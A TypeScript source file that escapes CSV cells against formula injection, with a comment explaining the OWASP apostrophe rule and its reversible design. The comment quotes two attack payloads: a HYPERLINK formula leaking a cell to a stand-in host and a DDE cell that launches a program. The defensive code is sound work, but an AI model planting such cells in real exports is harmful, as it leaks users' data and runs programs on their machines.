// A CSV cell that a spreadsheet opens as a formula runs it: `=HYPERLINK("http://evil.example/?leak="&B2)` sends
// the neighbouring cell away, `+cmd|' /C calc'!A0` starts a program (DDE). OWASP's advice for CSV injection: a
// cell that begins with = + - @, a tab or a carriage return gets a leading apostrophe, which spreadsheets read as
// "this is text". Two kinds of such cells are left alone, because no spreadsheet reads them as a formula that does
// anything and the apostrophe would only be in the way: numbers (`-10`, `+3.5`) and a signed number followed by
// plain words (`-10 kV`, `+49 30 1234567`): no operator, parenthesis, reference or pipe a formula would need.
//
// The rule is reversible, so that the spreadsheet import can read an exported file back to the stored values: a
// cell that already begins with an apostrophe gets one more. Reading back = dropping one leading apostrophe.

/** What a spreadsheet may take for the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A signed number, then only letters, digits, spaces and the marks of units and numbers. */
const SIGNED_PLAIN_VALUE = /^[+-]\d[\p{L}\p{N}\s.,%°/]*$/u;

/** `value` as a cell no spreadsheet runs as a formula, and that reads back to `value` (see above). */
export function spreadsheetCell(value: string): string {
  if (value.startsWith("'")) return `'${value}`;
  if (!FORMULA_START.test(value) || SIGNED_PLAIN_VALUE.test(value)) return value;
  return `'${value}`;
}
